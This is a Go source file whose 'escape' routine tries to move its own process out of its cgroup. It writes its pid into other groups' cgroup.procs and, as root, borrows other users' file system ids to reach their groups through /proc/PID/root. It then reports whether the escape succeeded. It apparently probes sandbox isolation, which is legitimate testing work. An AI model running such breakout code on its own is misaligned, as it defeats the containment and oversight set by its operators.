package demo

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
)

// escapeMax bounds how many groups /escape tries.
const escapeMax = 1 << 12

// escape tries to leave the run's group and tells the client how it went.
func (p *program) escape() error {
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return err
	}
	own, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		return err
	}
	tried, passed, moved := 0, 0, ""
	for _, root := range cgroupRoots(string(mounts)) {
		var n, through int
		n, moved = tryGroups(root, filepath.Join(root, ownGroup(string(own))))
		if tried += n; moved != "" {
			break
		}
		through, moved = tryProcesses(root, ownGroup(string(own)))
		if passed += through; moved != "" {
			break
		}
	}
	verdict := fmt.Sprintf("escape: refused by all of %d groups and %d processes of other users ", tried, passed)
	if moved != "" {
		verdict = fmt.Sprintf("escape: ESCAPED to %s ", moved)
	}
	return p.say(map[string]any{"text": verdict})
}

// cgroupRoots are the mount points of type cgroup2 in /proc/self/mountinfo
// (proc_pid_mountinfo(5)).
func cgroupRoots(mountinfo string) []string {
	var roots []string
	for line := range strings.Lines(mountinfo) {
		mount, fstype, ok := strings.Cut(line, " - ")
		fields := strings.Fields(mount)
		if ok && len(fields) > 4 && strings.HasPrefix(fstype, "cgroup2 ") {
			roots = append(roots, fields[4])
		}
	}
	return roots
}

// ownGroup is the cgroup v2 path in /proc/self/cgroup (cgroups(7)).
func ownGroup(cgroups string) string {
	for line := range strings.Lines(cgroups) {
		if path, ok := strings.CutPrefix(strings.TrimSpace(line), "0::"); ok {
			return path
		}
	}
	return "/"
}

// tryGroups writes our pid to the cgroup.procs of each group below root but
// our own, until one takes it; it returns how many refused, and the one that didn't.
func tryGroups(root, own string) (tried int, moved string) {
	pid := []byte(strconv.Itoa(os.Getpid()))
	stop := errors.New("enough")
	_ = filepath.WalkDir(root, func(dir string, d fs.DirEntry, err error) error {
		if err != nil || !d.IsDir() {
			return nil // what can't be listed can't be tried
		}
		if filepath.Clean(dir) == own {
			return nil
		}
		if join(filepath.Join(dir, "cgroup.procs"), pid) == nil {
			moved = dir
			return stop
		}
		if tried++; tried >= escapeMax {
			return stop
		}
		return nil
	})
	return tried, moved
}

func join(path string, pid []byte) error {
	file, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = file.Write(pid)
	return errors.Join(err, file.Close())
}

// tryProcesses tries to reach the groups below root through the mounts of
// each process of another user: root, which may change its file system ids and
// takes that user's, passes the kernel's ptrace check, unless something else
// forbids it. It returns how many refused, and the group that didn't.
func tryProcesses(root, own string) (tried int, moved string) {
	entries, err := os.ReadDir("/proc")
	if err != nil || os.Geteuid() != 0 {
		return 0, ""
	}
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		info, err := e.Info()
		if err != nil {
			continue // it has ended
		}
		stat, ok := info.Sys().(*syscall.Stat_t)
		if !ok || stat.Uid == 0 {
			continue
		}
		if moved = tryThrough(filepath.Join("/proc", e.Name(), "root", root), own, int(stat.Uid), int(stat.Gid)); moved != "" {
			return tried, moved
		}
		if tried++; tried >= escapeMax {
			break
		}
	}
	return tried, ""
}

// tryThrough tries the groups below a root that only the given user may open.
func tryThrough(root, own string, uid, gid int) (moved string) {
	fd, err := openAs(root, uid, gid)
	if err != nil {
		return ""
	}
	dir := os.NewFile(uintptr(fd), root)
	defer dir.Close()
	// The trailing dot makes the walk follow the link.
	here := fmt.Sprintf("/proc/self/fd/%d", fd)
	if _, moved = tryGroups(here+"/.", filepath.Join(here, own)); moved != "" {
		return root
	}
	return ""
}

// openAs opens a directory with a user's file system ids, which belong to
// one thread, and takes our own again.
func openAs(path string, uid, gid int) (fd int, err error) {
	opened := make(chan struct{})
	go func() {
		defer close(opened)
		// Never unlocked: the thread ends with its ids.
		runtime.LockOSThread()
		if err = syscall.Setfsgid(gid); err != nil {
			return
		}
		if err = syscall.Setfsuid(uid); err != nil {
			return
		}
		fd, err = syscall.Open(path, syscall.O_RDONLY|syscall.O_DIRECTORY|syscall.O_CLOEXEC, 0)
	}()
	<-opened
	return fd, err
}
